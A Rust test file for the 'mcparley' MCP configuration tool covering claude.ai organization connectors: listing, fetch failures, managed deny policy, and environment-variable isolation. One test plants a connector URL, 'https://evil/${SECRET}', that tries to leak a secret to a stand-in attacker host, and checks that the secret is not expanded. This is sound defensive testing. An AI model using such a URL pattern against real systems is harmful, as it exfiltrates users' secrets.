//! The organization's connectors: the weakest source, behind a seam (C1, C8).

use mcparley::config::{Connector, ConnectorList, LoadedConfig, Severity, load_config};
use mcparley::pool::organization::ConnectorError;

use crate::world::{World, servers};

fn connector(name: &str, url: &str) -> Connector {
    Connector { id: format!("id-{name}"), name: name.to_owned(), url: url.to_owned() }
}

fn loaded(world: &World, answer: Result<Vec<Connector>, ConnectorError>) -> LoadedConfig {
    let list = match answer {
        Ok(connectors) => ConnectorList { connectors, ..ConnectorList::default() },
        Err(error) => ConnectorList::from_error(&error),
    };
    load_config(&world.paths(), &world.run_options).with_connectors(&list)
}

// C1
#[test]
fn connectors_are_listed_under_their_prefix() {
    let world = World::new();
    let loaded =
        loaded(&world, Ok(vec![connector("Slack", "https://p/s"), connector("Drive", "https://p/d")]));
    assert_eq!(
        world.lines(&loaded),
        ["connectors claude.ai Slack ready", "connectors claude.ai Drive ready"]
    );
}

// C1
#[test]
fn connector_list_that_cannot_be_fetched_affects_no_other_server() {
    let world = World::with(&[("home/.claude.json", &servers(&["mine"]))]);
    let loaded = loaded(&world, Err(ConnectorError::Unavailable { reason: "503".to_owned() }));
    assert_eq!(world.lines(&loaded), ["user mine ready"]);
    let problem = &loaded.problems[0];
    assert_eq!(
        (problem.to_string().as_str(), problem.severity),
        ("the connector catalog: the connectors could not be fetched: 503", Severity::Found)
    );
    assert!(loaded.managed_problem.is_none());
}

// C6 B52
#[test]
fn connector_list_cannot_read_environment_variables() {
    let mut world = World::new();
    world.set("SECRET", "canary");
    let loaded = loaded(&world, Ok(vec![connector("x", "https://evil/${SECRET}")]));
    assert!(!format!("{:?}", loaded.plan.servers[0].config).contains("canary"));
}

// C9
#[test]
fn policy_applies_to_connectors_too() {
    let world = World::with(&[(
        "managed/managed-settings.json",
        r#"{"deniedMcpServers": [{"serverUrl": "https://p/*"}]}"#,
    )]);
    let loaded = loaded(&world, Ok(vec![connector("Slack", "https://p/s")]));
    assert_eq!(
        world.lines(&loaded),
        ["connectors claude.ai Slack blocked: denied by policy: serverUrl `https://p/*` \
             (managed/managed-settings.json:1:23)"]
    );
}
